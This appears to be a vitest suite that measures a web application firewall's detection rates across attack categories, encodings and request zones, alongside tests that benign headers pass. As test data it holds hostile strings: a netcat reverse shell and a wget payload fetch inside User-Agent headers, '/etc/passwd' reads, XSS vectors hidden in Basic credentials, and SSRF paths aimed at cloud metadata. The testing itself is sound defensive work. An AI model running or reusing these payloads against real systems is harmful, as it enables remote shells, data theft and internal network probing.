// Every category in every zone and encoding, as WAF bypass suites measure a WAF
// (test/support/variants/zones.ts): the payload generators of each category, through an encoder
// (plain, URL, double URL, base64, JS \u escapes, character references, mixed case, full-width,
// overlong UTF-8), in a query argument, the path, a form, JSON, a multipart field or file name, XML,
// SOAP, Cookie, Referer, User-Agent, a custom X- header or Authorization. Each row states the hit
// rate its in-scope cells reach together and the floor no cell may fall under; inScope() says which
// cells are attacks on a backend at all, and why the others are not.
import { expect, it } from "vitest";
import { describeFamily } from "../support/variants/check.js";
import { hitRate } from "../support/variants/rate.js";
import { inspect } from "../support/engine.js";
import { CATEGORIES, ENCODINGS, ZONES, cell, inScope, zoneRequest } from "../support/variants/zones.js";

/** Requests per cell (each cell draws its own payloads: its own seed); base64 has one cell in scope, Basic credentials. */
const RUNS = 5;
const runsOf = (e: string) => (e === "base64" ? 30 : RUNS);
const SEED = 20261128;

/**
 * Per category: the hit rate its in-scope cells reach together, and the lowest rate of one zone (over
 * its encodings) or one encoding (over its zones): a zone or an encoding the engine does not read
 * shows there, a payload the generator draws once does not.
 */
const ROWS: Record<string, { atLeast: number; floor: number }> = {
  sqli: { atLeast: 1, floor: 1 },
  xss: { atLeast: 0.99, floor: 0.9 }, // \u escapes over a vector that has its own: `\u005cu003c`
  rce: { atLeast: 0.98, floor: 0.85 }, // Basic credentials: `user:password` appended to a command line
  lfi: { atLeast: 0.98, floor: 0.9 }, // an overlong `%` before a double-encoded slash (`%C0%A5252f`): three layers
  // an include URL counts only in a parameter named for a file (the zones use q, id, data, search, value);
  // a UNC path after a path segment (`/files/\\host\share`) is not read as one
  rfi: { atLeast: 0.9, floor: 0.7 },
  // scheme-relative and scheme-less URLs after a path segment (`/files///169.254.169.254/`) read as a path
  ssrf: { atLeast: 0.93, floor: 0.5 },
  ssti: { atLeast: 1, floor: 1 },
  java: { atLeast: 0.98, floor: 0.9 },
  php: { atLeast: 0.98, floor: 0.9 },
  nodejs: { atLeast: 1, floor: 1 },
  // full-width `%00` folds to the three letters, not to a NUL; `*))%00:secret` as Basic credentials
  ldap: { atLeast: 0.97, floor: 0.85 },
  nosql: { atLeast: 0.99, floor: 0.9 },
  xxe: { atLeast: 1, floor: 1 },
};

describeFamily("category x zone x encoding matrix", {}, (h) => {
  it.each(Object.keys(CATEGORIES))("%s: every zone and every encoding in scope", (category) => {
    const { atLeast, floor } = ROWS[category];
    const groups = new Map<string, { hits: number; total: number; miss?: unknown }>();
    const add = (key: string, r: { hits: number; total: number; misses: unknown[] }) => {
      const g = groups.get(key) ?? { hits: 0, total: 0 };
      g.hits += r.hits;
      g.total += r.total;
      g.miss ??= r.misses[0];
      groups.set(key, g);
    };
    ZONES.forEach((z, i) =>
      ENCODINGS.forEach((e, j) => {
        if (!inScope(category, z, e)) return;
        const r = hitRate(h(), cell(category, z, e), runsOf(e), SEED + i * 16 + j);
        add("all", r);
        add(`zone ${z}`, r);
        add(`encoding ${e}`, r);
      }),
    );
    const weak = [...groups].filter(([k, g]) => k !== "all" && g.hits < floor * g.total).map(([k, g]) => `${k} ${g.hits}/${g.total}: ${JSON.stringify(g.miss)}`);
    expect(weak, "zones or encodings under the floor").toEqual([]);
    const all = groups.get("all")!;
    expect(all.hits / all.total).toBeGreaterThanOrEqual(atLeast);
  });

  // A line break cannot be sent on one line: it goes as a tab (still a break in a `javascript:` scheme), and
  // a command whose separator was the break is not drawn there (on one line it runs nothing: `admin i$()d &`).
  it("writes a line break in a header or file name as a tab", () => {
    for (const z of ["user-agent", "user-agent-tail", "x-header"] as const) {
      const req = zoneRequest("<a href=\"java\nscript:alert(1)\">x</a>", z, "plain");
      expect(JSON.stringify(req.headers), z).toContain("java\\tscript:");
      expect(inspect(h(), req).score, z).toBeGreaterThanOrEqual(5);
    }
  });

  it("covers every zone and encoding with in-scope cells", () => {
    const cats = Object.keys(CATEGORIES);
    expect(ZONES.filter((z) => !ENCODINGS.some((e) => cats.some((c) => inScope(c, z, e))))).toEqual([]);
    expect(ENCODINGS.filter((e) => !ZONES.some((z) => cats.some((c) => inScope(c, z, e))))).toEqual([]);
  });

  // The credentials of Authorization are read without their scheme: ordinary ones still pass.
  it.each([
    "Bearer ya29.a0AfH6SMBx-k3Fq_9ZtLw",
    "Basic dXNlcjpwQHNzdzByZCE=", // user:p@ssw0rd!
    "Basic am9obi5kb2VAZXhhbXBsZS5jb206Q29ycmVjdCBIb3JzZSBCYXR0ZXJ5IFN0YXBsZQ==", // an e-mail and a pass phrase
    "Digest username=\"Mufasa\", realm=\"testrealm@host.com\", nonce=\"dcd98b7102dd2f0e8b11d0f600bfb0c093\", uri=\"/dir/index.html\", qop=auth, nc=00000001, cnonce=\"0a4f113b\", response=\"6629fae49393a05397450978507c4ef1\"",
    "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
    "token ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "SharedKey myaccount:ctzMq410TV3wS7upTBcunJTDLEJwMAZuFPfr0mrrA08=",
  ])("passes Authorization: %s", (v) => {
    expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeLessThan(5);
  });

  // Basic credentials are decoded; a form feed in them is HTML's blank, not binary.
  it.each(['"\fonkeydown=self[`alert`](1) autofocus x=\'', "<svg\fonload=alert(1)>"])("blocks Basic credentials whose user name is %j", (user) => {
    const v = `Basic ${Buffer.from(`${user}:secret`).toString("base64")}`;
    expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeGreaterThanOrEqual(5);
  });
  it("passes Basic credentials with a form feed in a pass phrase", () => {
    const v = `Basic ${Buffer.from("jane.doe:page\fbreak on=purpose (x)").toString("base64")}`;
    expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeLessThan(5);
  });

  // A User-Agent's products and comments are no command line; what follows where they stop is read.
  it.each([
    "curl/8.5.0 | nc -e /bin/sh 10.0.0.1 4444", "python-requests/2.31.0 $(id)", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/124.0 ; cat /etc/passwd",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 x&c^m^d /c dir", "Wget/1.21 `wget http://203.0.113.7/x -O /tmp/x`",
  ])("blocks User-Agent: %s", (v) => {
    expect(inspect(h(), { path: "/", headers: [["host", "svc.local"], ["user-agent", v]] }).score).toBeGreaterThanOrEqual(5);
  });
  it.each([
    "Mozilla/5.0 (Linux; Android 12; moto g(60)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 9; SM-G960F Build/PPR1.180610.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/74.0.3729.157 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/222.0.0.48.113;]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 302.0.0.23.114 (iPhone14,2; iOS 16_6; en_US; en; scale=3.00; 1170x2532; 517147011)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 | MyCompany Monitor",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36; cat-lover edition",
    "aws-sdk-java/1.12.500 Linux/5.10.192 OpenJDK_64-Bit_Server_VM/17.0.8+7-LTS java/17.0.8 vendor/Amazon.com_Inc. cfg/retry-mode/standard",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/115.0 id",
  ])("passes User-Agent: %s", (v) => {
    expect(inspect(h(), { path: "/", headers: [["host", "svc.local"], ["user-agent", v]] }).score).toBeLessThan(5);
  });

  // A path is the service's own, but a proxy or image route fetches a URL written in it.
  it.each(["/files/dict://169.254.169.254:11211/stats", "/img/fetch/gopher://10.0.0.5:6379/_FLUSHALL", "/p/http://metadata.google.internal/computeMetadata/v1/"])("blocks the path %s", (path) => {
    expect(inspect(h(), { path, headers: [["host", "svc.local"]] }).score).toBeGreaterThanOrEqual(5);
  });
});
